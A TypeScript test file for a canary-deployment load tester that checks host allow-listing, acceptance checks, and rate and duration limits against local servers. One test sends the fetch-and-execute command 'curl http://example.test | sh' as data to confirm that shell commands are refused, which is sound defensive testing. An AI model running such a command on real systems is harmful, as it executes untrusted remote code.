// `canary-gate loadtester` against real HTTP servers on 127.0.0.1: gate
// payloads start bounded load or run acceptance checks; shell commands and
// hosts outside the allow-list are refused.

import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { pino } from 'pino';
import { hostAllowed, loadSpec, runLoad, SpecError } from '../../reconciler/analysis/loadtester/load.js';
import { LoadTester } from '../../reconciler/analysis/loadtester/server.js';

const limits = { allowHosts: ['127.0.0.1', '*.svc.cluster.local'], maxRate: 500, maxConcurrency: 8, maxDurationMs: 60_000 };

async function target(answer: (n: number) => [number, string]): Promise<{ url: string; hits: () => number; close: () => Promise<void> }> {
  let n = 0;
  const server: Server = createServer((_req, res) => {
    const [status, body] = answer(n++);
    res.writeHead(status).end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/`,
    hits: () => n,
    close: () => {
      server.closeAllConnections();
      return new Promise((r) => server.close(() => r()));
    },
  };
}

describe('loadtester', function () {
  let tester: LoadTester;
  let base: string;
  beforeEach(async function () {
    tester = new LoadTester({ limits, maxRuns: 4, log: pino({ level: 'silent' }) });
    base = `http://127.0.0.1:${await tester.listen(0, '127.0.0.1')}`;
  });
  afterEach(async function () {
    await tester.close();
  });
  const gate = (metadata: Record<string, string>) =>
    fetch(base, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'web', namespace: 'shop', revision: 'r1', metadata }) });

  it('matches hosts exactly or by *.suffix', function () {
    assert.ok(hostAllowed('web.shop.svc.cluster.local', limits.allowHosts));
    assert.ok(hostAllowed('127.0.0.1', limits.allowHosts));
    assert.ok(!hostAllowed('svc.cluster.local.evil.test', limits.allowHosts));
    assert.ok(!hostAllowed('10.0.0.1', limits.allowHosts));
  });

  it('refuses shell commands, unknown types and hosts outside the allow-list', async function () {
    const cmd = await gate({ cmd: 'curl http://example.test | sh' });
    assert.equal(cmd.status, 400);
    assert.match(((await cmd.json()) as { error: string }).error, /shell commands are not run/);
    const host = await gate({ url: 'http://example.test/' });
    assert.equal(host.status, 400);
    assert.match(((await host.json()) as { error: string }).error, /host example.test is not allowed/);
    assert.equal((await gate({ type: 'bash', url: 'http://127.0.0.1/' })).status, 400);
    assert.throws(() => loadSpec({ url: 'http://127.0.0.1/', rate: '10000' }, limits), SpecError);
    assert.throws(() => loadSpec({ url: 'http://127.0.0.1/', duration: '2h' }, limits), SpecError);
  });

  it('acceptance passes on the expected status and body and fails with the reason otherwise', async function () {
    const t = await target((n) => (n === 0 ? [200, 'greetings from podinfo 6.9.2-b'] : [503, 'down']));
    try {
      const ok = await gate({ type: 'acceptance', url: t.url, expectBody: '6.9.2-b' });
      assert.equal(ok.status, 200);
      const bad = await gate({ type: 'acceptance', url: t.url, expectBody: '6.9.2-b' });
      assert.equal(bad.status, 500);
      assert.match(((await bad.json()) as { reason: string }).reason, /answered 503, expected 200/);
    } finally {
      await t.close();
    }
  });

  it('a load gate answers at once, runs once per canary, revision and URL, and reports its result', async function () {
    const t = await target((n) => (n % 10 === 9 ? [500, 'x'] : [200, 'ok']));
    try {
      const first = await gate({ url: t.url, rate: '100', concurrency: '4', duration: '1s' });
      assert.equal(first.status, 200);
      assert.equal(((await first.json()) as { started?: boolean }).started, true);
      const again = await gate({ url: t.url, rate: '100', concurrency: '4', duration: '1s' });
      assert.equal(((await again.json()) as { running?: boolean }).running, true, 'a second call reports the run instead of starting another');
      await new Promise((r) => setTimeout(r, 1500));
      const runs = (await (await fetch(`${base}/runs`)).json()) as { finished: { result: { sent: number; failed: number; statuses: Record<string, number> } }[] };
      assert.equal(runs.finished.length, 1);
      const r = runs.finished[0]!.result;
      assert.ok(r.sent >= 80 && r.sent <= 101, `about 100 requests in 1 s at 100/s, sent ${r.sent}`);
      assert.equal(r.sent, t.hits());
      assert.equal(r.failed, r.statuses['500'] ?? 0, 'the 5xx answers are the failures');
      assert.ok(r.failed > 0);
    } finally {
      await t.close();
    }
  });

  it('stops at the end of its duration even when the target is slow', async function () {
    const t = await target(() => [200, 'ok']);
    try {
      const t0 = Date.now();
      const r = await runLoad(loadSpec({ url: t.url, rate: '50', duration: '500ms' }, limits));
      assert.ok(Date.now() - t0 < 1500);
      assert.ok(r.sent > 0 && r.sent <= 26, `sent ${r.sent}`);
    } finally {
      await t.close();
    }
  });
});
